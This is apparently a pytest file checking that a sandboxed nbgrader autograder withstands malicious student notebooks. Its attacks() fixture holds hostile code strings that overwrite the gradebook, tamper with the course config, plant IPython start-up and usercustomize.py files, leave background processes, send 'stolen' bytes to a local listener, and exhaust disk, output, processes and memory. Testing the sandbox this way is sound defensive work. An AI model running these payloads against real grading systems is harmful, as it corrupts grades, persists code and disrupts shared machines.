"""Through the real `make autograde`: can a submission change the course, the machine or anyone's grade?

One class of assignment 1 is graded sealed. Each attacker answers every part
correctly and then, at the end of its last answer cell, tries one attack from
the issue: write the gradebook, append to nbgrader_config.py, plant start-up
files, leave a process running, connect to a server on this machine, write a
3 GB file, print 100 MB, start 300 processes, allocate 40 GB. Afterwards the
course, the environment and the home folder must be as before, no process
left, every other student graded right, and each submission done within its
cells' bound plus 5 s.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from grader.sealed import sandbox
from tests.assignments.course import A1, Course, answered, make, new_course, submit

# Without the sandbox these attacks would really write into the venv and the home folder: they run only inside it
# (in CI, where make test installs bubblewrap, tests/grader/sealed/test_sandbox.py fails when it is missing).
pytestmark = pytest.mark.skipif(sandbox._bwrap() is None, reason="bubblewrap is not installed (apt-get install bubblewrap)")

BOUND = 10  # the course's c.SealedExecute.cell_seconds
MARKER = "cnnlib-attack-left-behind"


def attacks(course: Path, port: int) -> dict[str, str]:
    site = next(p for p in sys.path if p.endswith("site-packages"))
    home = Path.home()
    return {
        "gradebook": f"open({str(course / 'gradebook.db')!r}, 'wb').write(b'0')",
        "config": f"open({str(course / 'nbgrader_config.py')!r}, 'a').write('\\nc.Execute.timeout = 1\\n')",
        "startup": (f"import os\nos.makedirs({str(home / '.ipython/profile_default/startup')!r}, exist_ok=True)\n"
                    f"open({str(home / '.ipython/profile_default/startup/00-evil.py')!r}, 'w').write('import os')\n"
                    f"open({str(Path(site) / 'usercustomize.py')!r}, 'w').write('import os')"),
        "background": (f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', "
                       f"{MARKER!r}], start_new_session=True)"),
        "network": f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')",
        "big-file": "with open('big.bin', 'wb') as f:\n    for _ in range(3 * 1024):\n        f.write(b'x' * 2**20)",
        "output": "for _ in range(100):\n    print('x' * 2**20)",
        "processes": ("import subprocess, sys\nfor _ in range(300):\n"
                      "    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'])"),
        "memory": "import numpy\nblocks = [numpy.ones(2**27) for _ in range(40)]",
    }


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """The class graded, with what the tests compare: digests before, connections seen, per-submission seconds."""
    root = tmp_path_factory.mktemp("attacks") / "course"
    root.mkdir()
    new_course(root, [A1])
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    seen: list[bytes] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            seen.append(connection.recv(100))

    threading.Thread(target=listen, daemon=True).start()
    names = attacks(root, server.getsockname()[1])
    submit(root, A1, "honest", answered(root))
    for name, code in names.items():
        nb = answered(root)
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "worked_numbers")
        cell.source += "\n" + code
        submit(root, A1, name, nb)
    site = Path(next(p for p in sys.path if p.endswith("site-packages")))
    before = {"config": digest(root / "nbgrader_config.py"), "site": sorted(os.listdir(site)),
              "startup": (Path.home() / ".ipython/profile_default/startup/00-evil.py").exists()}
    result = make("autograde", root)
    make("grades", root)
    stop.set()
    return {"root": root, "names": names, "before": before, "seen": seen, "site": site,
            "output": result.stdout + result.stderr, "status": result.returncode}


def test_every_student_is_graded_right(attacked: dict) -> None:
    """Does the run succeed, with full marks for the honest student and for every attacker's correct answers?"""
    assert attacked["status"] == 0, attacked["output"][-3000:]
    grades = Course(attacked["root"]).grades()
    assert grades[A1, "honest"] == (17.0, 17.0)
    for name in attacked["names"]:
        # The attack comes after the answers in the last cell; one that kills the process loses that cell's 3 points.
        assert grades[A1, name][0] >= 14.0, (name, grades[A1, name])


def test_the_course_environment_and_home_are_unchanged(attacked: dict) -> None:
    """Are nbgrader_config.py, the venv's site-packages and the home folder's IPython start-up as before?"""
    before = attacked["before"]
    assert digest(attacked["root"] / "nbgrader_config.py") == before["config"]
    assert sorted(os.listdir(attacked["site"])) == before["site"]
    assert (Path.home() / ".ipython/profile_default/startup/00-evil.py").exists() == before["startup"]
    assert Course(attacked["root"]).grades()  # the gradebook still opens and exports


def test_nothing_reached_the_network_and_no_process_is_left(attacked: dict) -> None:
    """Did the loopback server see no connection, and is no process of the attackers still running?"""
    assert attacked["seen"] == []
    left = subprocess.run(["pgrep", "-f", MARKER], capture_output=True, text=True).stdout.split()
    assert left == []


def test_each_submission_ends_within_its_bound_plus_five_seconds(attacked: dict) -> None:
    """Did grading each attacker take at most a cell's bound plus 5 s?"""
    cache = attacked["root"] / "autograded" / ".sealed"
    for name in attacked["names"]:
        (record,) = (cache / name / A1).glob("*.json")
        assert json.loads(record.read_text())["seconds"] <= BOUND + 5, name
